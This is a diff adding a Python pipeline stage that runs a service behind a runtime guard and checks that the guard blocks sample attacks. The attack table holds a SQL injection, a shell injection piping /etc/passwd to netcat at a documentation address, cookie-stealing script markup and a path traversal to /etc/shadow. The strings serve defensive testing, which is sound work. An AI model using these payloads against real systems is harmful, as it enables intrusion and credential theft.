@@ -1,0 +1,130 @@
+"""Stage 12: put the guard before the running service, and see that it answers, refuses attacks, and keeps a record."""
+
+from __future__ import annotations
+
+import http.client
+import json
+import shutil
+from collections.abc import Mapping
+from dataclasses import asdict, dataclass
+from urllib.parse import urlsplit
+
+from shipworthy.engine.stage import Job, Stage
+from shipworthy.evidence.digest import sha256_file
+from shipworthy.guard.runtime.events import read_events
+from shipworthy.guard.runtime.summary import today, write_summary
+from shipworthy.model import StageResult
+from shipworthy.stages.dev.deploy_check import admit
+from shipworthy.stages.dev.fetched import fetch_image
+from shipworthy.stages.dev.service import guarded, running
+from shipworthy.stages.secrets import open_signing_key
+
+_ATTACKS: Mapping[str, str] = {
+    "sql": "1' OR '1'='1' UNION SELECT name, password FROM users --",
+    "shell": "; cat /etc/passwd | nc 192.0.2.1 4444",
+    "markup": "<script>document.location='//192.0.2.1/'+document.cookie</script>",
+    "traversal": "../../../../../../etc/shadow",
+}
+"""One of each family, as people send them; 192.0.2.0/24 is nobody's (RFC 5737)."""
+
+
+@dataclass(frozen=True)
+class Answer:
+    """What came back: its status (0: nothing came) and the first part of its body."""
+
+    status: int
+    body: str = ""
+
+
+def run(job: Job) -> StageResult:
+    """Admit the image once more, serve it behind the guard, try it from outside, and sign what the guard recorded."""
+    digest, _ = admit(job)
+    folder = job.folder / "guard"
+    mode = job.settings.protect.mode
+    if folder.exists():  # of a run that was stopped here
+        shutil.rmtree(folder)
+    with (
+        running(job.settings, job.folder, fetch_image(job, digest), digest, "protect") as service,
+        guarded(job.settings, service, digest, folder) as guard,
+    ):
+        answers = _try(job, guard.url)
+        metrics = _ask(guard.metrics)
+    summary = write_summary(guard.events, today(), open_signing_key(job), folder, mode=mode)
+    chain = read_events(guard.events)
+    told = {name: asdict(answer) for name, answer in answers.items()}
+    details = {"mode": mode, "answers": told, "events": dict(chain.kinds), "model": digest}
+    outputs = {"events": sha256_file(guard.events), "summary": sha256_file(summary)}
+    wrong = _wrong(job, answers, metrics)
+    if wrong:
+        return job.failed(wrong, "its events are in guard/guard-events.jsonl", details=details, outputs=outputs)
+    attacks = sum(name in _ATTACKS for name in answers)
+    refused = sum(answers[name].status == 403 for name in _ATTACKS if name in answers)
+    probe = job.settings.service.probe
+    return job.passed(
+        f"{probe.path if probe else job.settings.service.health} answers behind the guard; "
+        f"{refused} of {attacks} attacks refused, {chain.count} events recorded and signed",
+        inputs={"image": digest},
+        outputs=outputs,
+        details=details,
+    )
+
+
+def _try(job: Job, url: str) -> dict[str, Answer]:
+    """A health check, the probe as it should be asked, and an attack of each family in its place."""
+    service = job.settings.service
+    answers = {"health": _ask(url + service.health)}
+    if (probe := service.probe) is None:
+        return answers
+    for name, body in {"probe": probe.body, **{n: _inside(probe.body, text) for n, text in _ATTACKS.items()}}.items():
+        data = body.encode() if probe.method not in ("GET", "HEAD") else None
+        headers = {"Content-Type": probe.content_type}
+        answers[name] = _ask(url + probe.path, data, probe.method, headers)
+    return answers
+
+
+def _inside(body: str, text: str) -> str:
+    """The probe's body with the attack in each of its texts."""
+    try:
+        value = json.loads(body)
+    except ValueError:
+        return text
+    if isinstance(value, dict):
+        return json.dumps({key: text if isinstance(each, str) else each for key, each in value.items()} or {"q": text})
+    return json.dumps(text)
+
+
+def _ask(url: str, body: bytes | None = None, method: str = "GET", headers: Mapping[str, str] | None = None) -> Answer:
+    """Ask the guard: straight, whatever proxies the environment names."""
+    parts = urlsplit(url)
+    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=30)
+    try:
+        connection.request(method, parts.path or "/", body, dict(headers or {}))
+        answer = connection.getresponse()
+        return Answer(answer.status, answer.read(500).decode("utf-8", "replace"))
+    except (OSError, http.client.HTTPException) as error:
+        return Answer(0, type(error).__name__)
+    finally:
+        connection.close()
+
+
+def _wrong(job: Job, answers: Mapping[str, Answer], metrics: Answer) -> str:
+    """Why the protected service is not as it should be; empty when it is."""
+    service, mode = job.settings.service, job.settings.protect.mode
+    if answers["health"].status != 200:
+        return f"behind the guard, {service.health} answers {answers['health'].status or 'nothing'}"
+    if (probe := service.probe) and answers["probe"].status != probe.status:
+        return f"behind the guard, {probe.path} answers {answers['probe'].status or 'nothing'} and not {probe.status}"
+    let = [name for name in _ATTACKS if name in answers and answers[name].status != 403]
+    if mode == "block" and let:
+        return f"the guard let an attack pass: {', '.join(let)}"
+    if metrics.status != 200:
+        return "the guard's metrics do not answer"
+    return ""
+
+
+STAGE = Stage(
+    "protect",
+    "Runtime protection",
+    "Serves the admitted image behind the guard: asks it as a client, attacks it, and signs what the guard recorded.",
+    run,
+)
